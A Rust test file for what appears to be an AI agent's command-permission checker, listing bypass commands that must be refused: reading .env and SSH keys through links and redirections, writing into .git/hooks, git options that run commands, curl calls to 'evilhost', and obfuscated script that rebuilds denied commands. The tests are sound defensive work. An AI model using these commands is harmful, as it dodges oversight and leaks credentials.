//! Holes in what rules allowed, as a review found them: each is a question now, and what stands beside it is not.

use super::*;

/// None of the commands is allowed, and all of their harmless neighbours are.
fn table(rules: &[(&[&str], &[&str], &[&str])]) {
    let mut wrong = Vec::new();
    for (allow, refused, allowed) in rules {
        let policy = policy(allow, &[], &[]);
        check(&policy, refused, allowed, &mut wrong);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// What allows, what denies, and commands that must not be allowed and that must.
type Denying<'a> = (&'a [&'a str], &'a [&'a str], &'a [&'a str], &'a [&'a str]);

/// The same with rules that deny.
pub(super) fn denying(rules: &[Denying<'_>]) {
    let mut wrong = Vec::new();
    for (allow, deny, refused, allowed) in rules {
        check(&policy(allow, &[], deny), refused, allowed, &mut wrong);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn check(policy: &Policy, refused: &[&str], allowed: &[&str], wrong: &mut Vec<String>) {
    for command in refused {
        if outcome(policy, command) == Outcome::Allow {
            wrong.push(format!("allowed by {:?}, denied {:?}: {command}", policy.allow, policy.deny));
        }
    }
    for command in allowed {
        let decision = by(policy, &shell(command));
        if decision.outcome != Outcome::Allow {
            wrong.push(format!("not allowed by {:?}: {command}: {}", policy.allow, decision.reason));
        }
    }
}

#[test]
fn a_wide_rule_does_not_cover_what_is_known_only_when_it_runs() {
    table(&[
        (
            &["shell(git:*)"],
            &[
                "git reset $x HEAD~1",
                "x=--hard; git reset $x HEAD~1",
                "git grep \"$x\" line",
                "git rebase \"$x\" HEAD~1",
                "git commit -F -m \"$x\"",
                "git commit -m $x",
                "git add *",
            ],
            &[
                "git commit -m \"text\"",
                "git commit -m \"$msg\"",
                "git commit -am \"$(date)\"",
                "git add -A",
                "git push",
                "git commit -m 'mentions .env and .git/hooks'",
            ],
        ),
        (&["shell(find:*)"], &["find src $x", "x=-delete; find src $x"], &["find src -name a"]),
        (
            &["shell(cat)"],
            &["cat $x", "cat .en?", "cat .en*", "cat .e[n]v", "echo .env | xargs cat", "cat \"$x\""],
            &["cat a", "cat src/*.rs"],
        ),
        (&["shell(cp:*)"], &["cp a $d", "d=.git/hooks; cp a $d", "cp a .gi*/hooks"], &["cp a b"]),
        (&["shell(kill:*)"], &["kill $x", "ls | xargs kill"], &["kill 12"]),
        (&["shell(npm test)"], &["npm test $x"], &["npm test"]),
        (&["shell(cargo:*)"], &["cargo $x"], &["cargo test -p x"]),
    ]);
}

#[test]
fn what_only_runs_another_command_is_looked_at_for_its_redirections() {
    table(&[(
        &["shell(cat)", "write(src/**)"],
        &[
            "timeout 5 cat < .env",
            "bash -c cat < .env",
            "xargs < .env",
            "eval cat < .env",
            "nice cat < .env",
            "env cat < /home/q/x",
            "command cat < .env",
            "time cat < .env",
            "timeout 5 ls > .git/hooks/x",
            "cat < .env",
            "cat < /home/q/x",
        ],
        &["timeout 5 cat < a", "bash -c cat < a", "cat < a", "timeout 5 ls > src/a"],
    )]);
}

#[test]
fn digits_that_are_not_known_are_not_known() {
    table(&[(
        &["write(src/**)", "write(src/a0)"],
        &[
            "cat link$?",
            "cat < link$((1))",
            "cat link$((0+1))",
            "cat link${#x}",
            "echo x > src/l$((1))",
            "echo x > src/a$((1))",
        ],
        &["cat link0", "echo x > src/l1", "echo $?", "head -n $((1+2)) a"],
    )]);
    denying(&[(&["shell"], &["read(secret1.txt)"], &["cat secret$((1)).txt"], &["cat a"])]);
}

/// A command in a session with `src/hooks -> ../.git/hooks`, and with the folder itself behind a link.
fn linked(policy: &Policy, command: &str) -> Outcome {
    let mut call = shell(command);
    call.real_cwd = Some(PathBuf::from("/srv/shop"));
    for path in call.real_paths.iter_mut().flatten() {
        if let Ok(rest) = path.strip_prefix("/home/p/shop") {
            let rest = rest
                .strip_prefix("src/hooks")
                .map_or_else(|_| rest.to_owned(), |name| std::path::Path::new(".git/hooks").join(name));
            *path = std::path::Path::new("/srv/shop").join(rest);
        }
    }
    decide(policy, Profile::Ask, Switches::default(), &call).outcome
}

#[test]
fn a_rule_to_write_means_the_place_behind_a_link() {
    let narrow = policy(&["write(src/**)", "shell(tee)", "shell(touch)"], &[], &[]);
    let wide = policy(&["write(**)", "write(/home/p/shop/**)"], &[], &[]);
    for command in [
        "echo x > src/hooks/pre-commit",
        "ls | tee src/hooks/pre-commit",
        "touch src/hooks/pre-commit",
        "mkdir src/hooks/x",
        "sed -i s/a/b/ src/hooks/pre-commit",
        "chmod +x src/hooks/pre-commit",
    ] {
        assert_ne!(linked(&narrow, command), Outcome::Allow, "{command}");
        assert_ne!(linked(&wide, command), Outcome::Allow, "{command}");
    }
    for command in ["echo x > src/a", "ls | tee src/a", "mkdir src/x", "sed -i s/a/b/ src/a"] {
        assert_eq!(linked(&narrow, command), Outcome::Allow, "{command}");
        assert_eq!(linked(&wide, command), Outcome::Allow, "{command}");
    }
}

#[test]
fn writing_the_named_files_is_writing_no_others() {
    table(&[
        (
            &["write(src/**)"],
            &[
                "tee src/a.txt -",
                "mkdir src/n -",
                "sed -i.bak s/a/b/ src/a",
                "sed --in-place=.bak s/a/b/ src/a",
                "sed -i -ne 'w src/x' src/a",
                "sed -i -Ee 's/a/b/' src/a",
                "sed -i 's/a/b/w out' src/a",
                "sed -i '1eid' src/a",
            ],
            &[
                "echo x > src/a",
                "tee src/a.txt",
                "mkdir -p src/n",
                "sed -i s/a/b/ src/a",
                "sed -i -e s/a/b/ src/a",
            ],
        ),
        (
            &["shell(npm test)", "write(/home/p/shop/**)"],
            &["npm test > .git/hooks/pre-commit", "npm test > .env"],
            &["npm test > out", "npm test"],
        ),
        (&["shell(npm test)", "write(/home/p/shop/.env)"], &[], &["npm test > .env"]),
    ]);
}

#[test]
fn credentials_are_not_read_through_a_rule_for_a_program() {
    table(&[
        (&["shell(cat)"], &["cat .env", "cat < .env", "cat a .env", "cat sub/id_rsa"], &["cat a"]),
        (&["shell(sort)"], &["sort < /outside", "sort < /home/q/a", "sort .env"], &["sort < a"]),
        (&["shell(sort)", "read(/outside)"], &[], &["sort < /outside"]),
    ]);
}

#[test]
fn git_is_taken_at_its_abbreviations() {
    table(&[(
        &["shell(git:*)"],
        &[
            "git reset --har",
            "git reset --hard",
            "git -C src reset --hard",
            "git branch --del --forc other",
            "git branch -qD other",
            "git push --mirr x",
            "git push --forc",
            "git push -qf",
            "git rebase -qx\"id\"",
            "git rebase --exe=\"id\"",
            "git rebase --exec=id",
            "git grep -nO\"id;:\" line",
            "git grep -lOtouch line",
            "git grep --ope=\"id\" line",
            "git grep --no-index x /home/q",
            "git clone -qu \"id;:\" x",
            "git clone --upl=id x",
            "git clone --conf core.fsmonitor=id x",
            "git clone -qc core.fsmonitor=id x",
            "git clone --templ=x y",
            "git fetch --upl=id",
            "git pull --upload-pack=id",
            "git ls-remote --exec=id x",
            "git fetch-pack --exec=id x",
            "git push --exe=id x",
            "git send-pack --exe=id x",
            "git http-push x",
            "git log --output=.git/hooks/pre-commit --format=x",
            "git log --outp=x",
            "git diff --output=x",
            "git diff --no-index a b",
            "git diff --no-ind a b",
            "git diff /home/q/a /home/q/b",
            "git diff ../a ../b",
            "git unknown",
            "git upload-pack x",
            "git bisect run id",
        ],
        &[
            "git push",
            "git push origin main",
            "git push -u origin main",
            "git reset HEAD~1",
            "git rebase main",
            "git fetch origin",
            "git pull --rebase",
            "git branch new",
            "git checkout -b new",
            "git grep -n x",
            "git log --oneline",
            "git diff HEAD~1..HEAD",
            "git stash",
            "git merge main",
        ],
    )]);
    // The rule's own words are what a person has seen.
    table(&[(&["shell(git reset --hard)"], &["git reset --hard HEAD~1"], &["git reset --hard"])]);
}

#[test]
fn a_protected_place_is_seen_wherever_it_stands_in_a_word() {
    table(&[(
        &[
            "shell(cp:*)",
            "shell(rm:*)",
            "shell(tar:*)",
            "shell(sort:*)",
            "shell(sed:*)",
            "shell(awk:*)",
            "shell(install:*)",
            "shell(mytool:*)",
            "shell(cd)",
        ],
        &[
            "rm --rec src",
            "rm --recu src",
            "cp -t.git/hooks a",
            "cp -t .git/hooks a",
            "cp --target-directory=.git/hooks a",
            "cp --target-directory=/home/q a",
            "cp a .git//hooks",
            "cp a .git/x/../hooks/pre-commit",
            "cp config .git",
            "cd .git && cp a hooks/pre-commit",
            "tar -xC/home/q -f t.tar",
            "tar -xPf t.tar",
            "tar xPf t.tar",
            "tar --abs -xf t.tar",
            "sort -o .git/hooks/x a",
            "sort -o.bashrc a",
            "sort a -o/home/q/x",
            "sed 'w.git/hooks/z' a",
            "awk '{print > \".git/hooks/x\"}' a",
            "install a .config/autostart/x",
            "mytool --out=.env",
            "mytool -fid_rsa",
            "mytool ~/.ssh",
            "mytool x/.aws/y",
            "mytool --file=dev.askance.app",
        ],
        &[
            "cp a b",
            "rm a",
            "tar -xf t.tar",
            "sort a -o b",
            "mytool .gitignore",
            "mytool .env.example",
            "mytool x",
        ],
    )]);
}

#[test]
fn addresses_are_read_as_the_program_reads_them() {
    table(&[
        (
            &["shell(curl:*)", "shell(wget:*)"],
            &[
                "curl http:/127.0.0.1:8098/x",
                "curl 'http://[1-1]27.0.0.1:8098/x'",
                "curl -K cfg",
                "curl --conf cfg",
                "curl file:/outside",
                "wget -qi urls",
                "wget -iurls.txt",
                "wget --input-file=urls",
                "curl evilhost/x",
                "curl evilhost",
            ],
            &[],
        ),
        (
            &["shell(curl:*)", "shell(wget:*)", "url(http://localhost:8099)"],
            &[
                "curl '127.0.0.1:8098/?u=http://localhost:8099'",
                "curl 'http://localhost:8099\\@127.0.0.1:8098/'",
                "curl -x127.0.0.1:8098 http://localhost:8099/",
                "curl --connect-to x http://localhost:8099/",
                "curl --resolve x http://localhost:8099/",
                "wget -e http_proxy=x http://localhost:8099/",
                "wget --use-askpass=./bin/ls http://localhost:8099/",
                "curl -so .git/hooks/x http://localhost:8099/",
                "curl -sLo .env http://localhost:8099/",
                "curl -o/home/q/x http://localhost:8099/",
                "curl -DX http://localhost:8099/",
                "curl --trace-ascii X http://localhost:8099/",
                "wget -qO/home/q/x http://localhost:8099/",
                "wget -P.git/hooks http://localhost:8099/a",
                "curl --libcurl x http://localhost:8099/",
                "curl --upload-f x http://localhost:8099/",
                "curl -w @/outside http://localhost:8099/",
                "curl -H @file http://localhost:8099/",
                "curl -O http://localhost:8099/.env",
            ],
            &[
                "curl -sSLf http://localhost:8099/",
                "curl -s -o out.json http://localhost:8099/x",
                "curl -sLo out.json http://localhost:8099/x",
                "curl -H 'Accept: x' --max-time 5 localhost:8099/x",
                "wget -qO out http://localhost:8099/x",
                "curl -s -w '%{http_code}' http://localhost:8099/",
            ],
        ),
        (&["shell(curl -K cfg)"], &["curl -K other"], &[]),
    ]);
}

#[test]
fn what_is_put_into_a_command_is_no_script() {
    table(&[(
        &[],
        &[
            "xargs -I% nice sh -c 'echo %'",
            "xargs -I% timeout 5 bash -c 'echo %'",
            "xargs -I% stdbuf -oL bash -c 'echo %'",
            "xargs -I% setsid sh -c 'echo %'",
            "xargs --replace=% sh -c 'echo %'",
            "xargs -I% watch 'echo %'",
            "xargs -I% eval 'echo %'",
            "xargs -I% nice awk 'BEGIN{print \"%\"}'",
            "find . -exec sh -c 'echo {}' \\;",
            "find . -exec awk 'BEGIN{print \"{}\"}' \\;",
            "find 'w out.md' -name '*.md' -exec sed {} a \\;",
            "find 'w out.md' -type f -name '*.md' -exec sed {} a \\;",
            "find . -type f -name '*.md' -exec sed -f {} a \\;",
            "find . -type f -name '*.md' -exec sed -e {} a \\;",
            "find . -type f -name '*.md' -exec jq {} a \\;",
            "find . -type f -name '*.md' -exec bash {} \\;",
            "find . -type f -name '*.md' -exec env {} \\;",
        ],
        &[
            "find . -type f -name '*.md' -exec cat {} \\;",
            "find . -type f -name '*.md' -exec grep -n x {} +",
            "find . -type f -name '*.md' -exec wc -l {} +",
            "find . -type f -name '*.md' -exec sed -n 1,5p {} \\;",
            "ls | xargs -I% echo %",
        ],
    )]);
}

#[test]
fn what_the_first_table_did_not_have() {
    table(&[
        (
            &["shell"],
            &[
                "bash --norc <<< id",
                "bash -x <<< id",
                "bash -o pipefail <<< id",
                "bash -es <<< id",
                "git push evil-host:x main",
                "git clone evilhost:x",
                "git remote add x evilhost:y",
                "git push --repo=ext::id",
                "chmod --rec 755 src",
                "http evilhost/x",
                "CURL file:/outside",
            ],
            &["bash a.sh", "bash -x a.sh", "git push origin main:main", "git show HEAD:src/a"],
        ),
        (
            &[],
            &[
                "wait -n -p 'a[$(id)]'",
                "[ $x ]",
                "[ \"$x\" \"$y\" ]",
                "test $x -gt 0",
                "test -n a -a -v \"$y\"",
            ],
            &["[ -n \"$x\" ]", "[ \"$x\" = y ]", "[ $? -eq 0 ]", "test -f a", "wait", "[ \"$x\" -gt 0 ]"],
        ),
        (&["shell(npm test)", "write(/home/p/shop/.env)"], &[], &["npm test > .env 2> /dev/null"]),
    ]);
    denying(&[(
        &["shell"],
        &["shell(touch)"],
        &[
            "python3 -c 'import os; os.system(\"to\" + \"uch a\")'",
            "perl -e 'exec q(to).q(uch)'",
            "python3 <<< 'x'",
            "python3 -",
            "node -p 1",
            "ruby -e x",
        ],
        &["python3 a.py", "node a.js --port 3", "perl a.pl"],
    )]);
    denying(&[
        (
            &["shell", "url"],
            &["url(evilhost)", "url(127.0.0.1)"],
            &["curl evilhost/x", "curl '127.0.0.1:8098/?u=http://localhost:8099'", "curl -K cfg"],
            &["curl http://localhost:8099/"],
        ),
        (
            &["shell"],
            &["write"],
            &["sort -o a b", "sed 'w x' a", "git log --output=x", "find . -fprint x"],
            &["npm test", "git status", "sort a"],
        ),
        (&["shell"], &["shell(rm)"], &[], &["make test", "npx tsc", "split -l 5 a", "npm test"]),
    ]);
    table(&[(
        &["shell(find:*)", "shell(awk:*)", "shell(git:*)"],
        &[
            "find . -fprint /home/q/x",
            "awk '{print > \"/home/q/x\"}' a",
            "git worktree add ../x",
            "git init ../x",
        ],
        &["find . -name a", "awk '{print $1}' a", "git worktree add sub/x"],
    )]);
    denying(&[(&["shell"], &["write(.git/**)"], &[], &["git add .", "git add -A", "git commit -m x"])]);
}

#[test]
fn a_file_whose_real_place_is_not_known_is_not_written() {
    for command in ["touch a", "tee a", "sed -i s/a/b/ a"] {
        let call = ToolCall { real_paths: None, ..shell(command) };
        let policy = policy(&["shell", "write(**)"], &[], &[]);
        assert_ne!(by(&policy, &call).outcome, Outcome::Allow, "{command}");
    }
}

/// A command whose every path really leads to `.env`.
#[test]
fn a_link_to_a_secret_is_a_secret() {
    for allow in ["shell(cat)", "shell(grep:*)", "shell(cat:*)", "shell"] {
        for command in ["cat notes", "grep x notes", "cat < notes"] {
            let mut call = shell(command);
            for path in call.real_paths.iter_mut().flatten() {
                *path = PathBuf::from("/home/p/shop/.env");
            }
            assert_ne!(by(&policy(&[allow], &[], &[]), &call).outcome, Outcome::Allow, "{allow}: {command}");
        }
    }
}
